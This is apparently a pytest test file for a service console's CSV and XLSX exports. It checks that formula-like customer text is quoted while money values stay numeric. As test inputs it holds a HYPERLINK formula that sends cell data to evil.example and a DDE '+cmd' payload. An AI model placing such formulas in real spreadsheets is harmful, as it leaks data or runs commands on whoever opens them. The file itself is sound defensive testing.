"""Exports never hand a spreadsheet a formula: a customer name from the public web form that
starts with ``=`` is written as text in CSV and XLSX, while money (a negative margin too)
stays a number."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from console.cli import main
from console.db.engine import Database
from console.security.cells import safe_cell, safe_text
from console.services import advance_status, assign_call, complete_call, create_call
from console.services.accounts import create_technician
from console.services.actors import SYSTEM

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("text", "written"), [
    ("=1+2", "'=1+2"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-12.5", "-12.5"), ("+8613900001111", "+8613900001111"), ("-1e3", "-1e3"),
    ("Li Wei", "Li Wei"), ("", ""), ("a=b", "a=b"), ("-", "'-"),
])
def test_formula_text_gets_a_quote_and_numbers_do_not(text: str, written: str) -> None:
    assert safe_text(text) == written


def test_values_that_are_not_text_are_kept() -> None:
    assert [safe_cell(v) for v in (-5, -2.5, None, 0)] == [-5, -2.5, None, 0]


def _completed_call_at_a_loss(db: Database) -> int:
    view, _token = create_technician(
        db, actor=SYSTEM, name="Tech", phone="13800001111", skills=["plumbing"],
        home_base="Xuhui", home_lat=31.19, home_lon=121.43)
    call = create_call(db, actor=SYSTEM, customer_name=EVIL, phone="13900001111",
                       address="-1 Long Road", lat=31.2, lon=121.45, category="leak")
    assign_call(db, actor=SYSTEM, call_id=call.id, technician_id=view.id,
                override_reason="test")
    for step in ("accepted", "en_route", "on_site"):
        advance_status(db, actor=SYSTEM, call_id=call.id, to=step)
    complete_call(db, actor=SYSTEM, call_id=call.id, price_charged=10.0,
                  parts=[{"name": "valve", "amount": 95.5}])
    return call.id


def test_calls_and_jobs_exports_write_formulas_as_text(db: Database, tmp_path: Path) -> None:
    call_id = _completed_call_at_a_loss(db)
    today = db.now().date()
    days = ["--from", str(today - timedelta(days=1)), "--to", str(today + timedelta(days=1))]
    for what in ("calls", "jobs"):
        for suffix in ("csv", "xlsx"):
            out = tmp_path / f"{what}.{suffix}"
            assert main(["export", what, *days, str(out), "--db", db.url]) == 0

    with (tmp_path / "calls.csv").open(encoding="utf-8-sig") as fh:
        row = next(csv.DictReader(fh))
    assert row["customer_name"] == "'" + EVIL and row["address"] == "'-1 Long Road"

    sheet = load_workbook(tmp_path / "calls.xlsx").worksheets[0]
    header, *rows = list(sheet.iter_rows())
    names = [str(c.value) for c in header]
    cell = rows[0][names.index("customer_name")]
    assert cell.data_type == "s" and cell.value == "'" + EVIL
    assert rows[0][names.index("call_id")].value == call_id

    jobs = load_workbook(tmp_path / "jobs.xlsx").worksheets[0]
    header, *rows = list(jobs.iter_rows())
    names = [str(c.value) for c in header]
    margin = rows[0][names.index("margin")]
    assert margin.data_type == "n" and isinstance(margin.value, float) and margin.value < 0
    assert not any(c.data_type == "f" for r in rows for c in r)
    with (tmp_path / "jobs.csv").open(encoding="utf-8-sig") as fh:
        assert float(next(csv.DictReader(fh))["margin"]) < 0
